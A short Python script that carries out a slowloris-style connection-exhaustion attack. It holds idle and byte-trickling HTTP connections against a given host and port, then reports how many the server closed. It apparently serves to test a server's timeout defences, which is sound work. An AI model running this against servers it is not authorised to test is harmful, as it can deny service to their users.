#!/usr/bin/env python3
"""slowloris.py HOST PORT IDLE TRICKLE SECONDS: hold IDLE connections that
send nothing and TRICKLE connections that send a request's headers one byte
every 0.2 s and never finish, for SECONDS. Prints "ready N" once all the
connections are open (N = how many the kernel accepted), then "closed N" at
the end: how many of them the server had closed meanwhile."""
import socket
import sys
import time

host, port = sys.argv[1], int(sys.argv[2])
idle, trickle, seconds = int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])

conns = []
for i in range(idle + trickle):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    try:
        s.connect((host, port))
    except OSError:
        s.close()
        continue
    s.setblocking(False)
    conns.append((s, i >= idle))
print("ready", len(conns), flush=True)

request = b"GET /v1/health HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000
pos = 0
closed = set()
deadline = time.monotonic() + seconds
while time.monotonic() < deadline and len(closed) < len(conns):
    for n, (s, trickles) in enumerate(conns):
        if n in closed:
            continue
        try:
            if s.recv(4096) == b"":
                closed.add(n)
                continue
        except BlockingIOError:
            pass
        except OSError:
            closed.add(n)
            continue
        if trickles and pos < len(request):
            try:
                s.send(request[pos:pos + 1])
            except OSError:
                closed.add(n)
    pos += 1
    time.sleep(0.2)
print("closed", len(closed), flush=True)
for s, _ in conns:
    s.close()
